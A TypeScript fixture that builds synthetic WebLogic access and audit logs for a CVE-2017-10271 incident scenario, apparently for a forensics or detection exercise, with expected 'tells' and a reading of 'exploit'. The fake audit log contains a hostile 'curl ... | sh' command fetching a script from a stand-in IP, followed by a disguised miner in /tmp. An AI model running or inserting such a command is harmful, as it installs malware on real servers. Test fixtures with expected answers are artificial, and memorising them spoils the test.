/** CVE-2017-10271: a POST to wls-wsat, and the server's own Java starts a shell that fetches a miner. */
import { audited, auditNoise, common, visits, written } from './noise.ts';
import { attacker, minerArguments, night, type Story, weekBegins, weekEnds } from './story.ts';
import { triedAndFailed } from './tried.ts';

const attack = common({
  ms: night,
  client: attacker,
  method: 'POST',
  target: '/wls-wsat/CoordinatorPortType',
  status: 500,
  bytes: 1_142,
  agent: '',
});

const java = 1_344;
const deeds = [
  ...audited({
    ms: night + 1_100,
    serial: 90_001,
    pid: 23_001,
    parent: java,
    uid: 1001,
    program: '/bin/bash',
    arguments: ['/bin/bash', '-c', 'curl -fsSL http://203.0.113.9/x.sh | sh'],
    folder: '/u01/domains/base_domain',
  }),
  ...audited({
    ms: night + 1_150,
    serial: 90_002,
    pid: 23_002,
    parent: 23_001,
    uid: 1001,
    program: '/usr/bin/curl',
    arguments: ['curl', '-fsSL', 'http://203.0.113.9/x.sh'],
    folder: '/u01/domains/base_domain',
  }),
  ...audited({
    ms: night + 9_000,
    serial: 90_009,
    pid: 23_010,
    parent: 23_001,
    uid: 1001,
    program: '/tmp/.x/sysupd',
    arguments: ['/tmp/.x/sysupd', ...minerArguments],
    folder: '/tmp/.x',
  }),
];

/** The server itself, started on Monday morning: what its process number is known by. */
const server = audited({
  ms: weekBegins + 1_000,
  serial: 11,
  pid: java,
  parent: 1,
  uid: 1001,
  program: '/usr/lib/jvm/java-8/bin/java',
  arguments: ['java', '-Dweblogic.Name=AdminServer', 'weblogic.Server'],
  folder: '/u01/domains/base_domain',
});

const access = 'AdminServer/logs/access.log';
const audit = 'audit/audit.log';

export const webLogic: Story = {
  name: 'WebLogic',
  files: {
    [access]: written(
      [...visits(weekBegins, weekEnds, 90, 1), ...triedAndFailed(weekBegins, weekEnds, 0.3, 3)].map(common),
      [attack],
    ),
    [audit]: written(server, auditNoise(weekBegins, weekEnds, 2), deeds),
  },
  reading: 'exploit',
  begins: night,
  tells: [/CVE-2017-10271/, /wls-wsat/, /x\.sh/],
  requests: [access],
  deeds: [audit],
};
